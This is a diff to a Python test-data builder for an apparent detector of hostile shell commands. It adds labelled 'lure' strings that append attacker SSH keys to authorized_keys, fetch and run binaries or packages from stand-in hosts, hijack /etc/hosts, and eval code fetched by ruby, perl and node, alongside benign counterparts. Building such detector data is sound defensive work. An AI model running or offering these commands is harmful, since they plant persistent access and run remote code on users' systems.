@@ -84,6 +84,9 @@ SSH_LURES = (
     "wget -qO- https://203.0.113.41/k.pub | tee -a ~/.ssh/authorized_keys",
     "curl -s http://198.51.100.23/id.pub >> ~/.ssh/authorized_keys && echo ok",
     "echo c3NoLWVkMjU1MTkgQUFBQUMzTnphQzFsWkRJMU5URTVBQUFBSUs3dFEydlVuM3JXOXlYaDFacEZxOExtTjRzQjZjRGVHZkhqS2xNbk9wUXIgeEB5 | base64 -d >> ~/.ssh/authorized_keys",
+    'echo "KEY">>~/.ssh/authorized_keys',
+    'echo "KEY" | tee --append "${HOME}/.ssh/authorized_keys"',
+    "powershell -c \"Add-Content -Path $env:ProgramData\\ssh\\administrators_authorized_keys -Value 'KEY'\"",
 )
 SSH_QUIET = (
     # an admin's own key from the company's own wiki, on its network or naming its domain
@@ -143,6 +146,8 @@ COPY_LURES = (
     "rsync -q rsync://203.0.113.90/share/tool.sh /tmp/tool.sh && bash /tmp/tool.sh",
     "scp anon@dl.relay-cache.invalid:/pub/launcher ./launcher && ./launcher",
     "cd /tmp && sftp anon@files.remote-helper.test:/pub/agent.sh && sh agent.sh",
+    'rsync -e "ssh -p 2222" guest@files.remote-helper.test:/x/y /tmp/y && /tmp/y',
+    "scp guest@files.remote-helper.test:bin/helper . && ./helper",
 )
 COPY_QUIET = (
     (
@@ -291,6 +296,9 @@ HOSTS_LURES = (
     "cat <<EOF | sudo tee -a /etc/hosts\nADDR NAME\nADDR www.NAME\nEOF",
     "echo 'ADDR  NAME  # cdn fix' | sudo tee -a /etc/hosts && sudo dscacheutil -flushcache",
     "sudo -- sh -c -e \"echo 'ADDR NAME' >> /etc/hosts\"; sudo killall -HUP mDNSResponder",
+    'sudo tee -a /etc/hosts <<< "ADDR NAME"',
+    'echo -e "ADDR\\tNAME" | sudo tee --append /etc/hosts',
+    "sudo python3 -c \"open('/etc/hosts','a').write('ADDR NAME\\n')\"",
 )
 HOSTS_QUIET = (
     (
@@ -328,6 +336,9 @@ PKG_LURES = (
     "curl -fsSLo agent.rpm https://198.51.100.12/agent.rpm; sudo dnf install -y ./agent.rpm",
     "cd ~ && wget -q https://files.remote-helper.test/helper.deb && sudo apt-get install ./helper.deb",
     "curl -LO https://dl.relay-cache.invalid/Update.pkg && sudo installer -pkg Update.pkg -target /",
+    "curl -sSLo /tmp/x.deb https://dl.remote-helper.test/x.deb && sudo dpkg --install /tmp/x.deb",
+    "curl -o ~/Downloads/Helper.pkg https://dl.remote-helper.test/Helper.pkg && sudo installer -pkg ~/Downloads/Helper.pkg -target /",
+    "wget -P ~/Downloads https://203.0.113.66/pkgs/agent.rpm && sudo zypper in ~/Downloads/agent.rpm",
 )
 PKG_QUIET = (
     (None, "dpkg -l | grep nginx"),
@@ -442,6 +453,22 @@ SCAM_QUIET = (
     "Our shop fixes virus problems on Windows laptops. Call us on +44 20 7946 0958 to book.",
 )
 
+# an interpreter's one-liner that evaluates what it fetches, the evaluation written first
+EVAL_FIRST = (
+    "ruby -e \"eval(Net::HTTP.get(URI('https://dl.remote-helper.test/r')))\" -rnet/http",
+    "ruby -ropen-uri -e 'eval URI.open(\"https://198.51.100.4/x.rb\").read'",
+    "perl -MLWP::Simple -e 'eval(get(\"https://dl.relay-cache.invalid/p\"))'",
+    "node -e \"eval(require('child_process').execSync('curl -s https://dl.sync-node.test/j').toString())\"",
+)
+EVAL_QUIET = (
+    (None, "ruby -rnet/http -e \"puts Net::HTTP.get(URI('https://api.example.org/status'))\""),
+    (None, "perl -MLWP::Simple -e 'getprint \"https://www.example.org/\"'"),
+    (
+        None,
+        "node -e \"fetch('https://api.example.org/health').then(r => r.text()).then(console.log)\"",
+    ),
+)
+
 
 def build() -> list[dict[str, str]]:
     book = Book("lures6")
@@ -552,6 +579,11 @@ def build() -> list[dict[str, str]]:
         book.add("scam-sentence", text, "flagged", "any", "other" if i % 2 else "unknown")
     for text in SCAM_QUIET:
         book.add("scam-sentence", text, "not_flagged", "any", "other")
+
+    for i, text in enumerate(EVAL_FIRST):
+        both("eval-fetched", text, "malicious", STRANGE[i % len(STRANGE)], "any")
+    for source, text in EVAL_QUIET:
+        book.add("eval-fetched", text, "not_flagged", "any", "terminal", source)
 
     ids = [c["id"] for c in book.cases]
     assert len(ids) == len(set(ids)), "case ids must be unique"
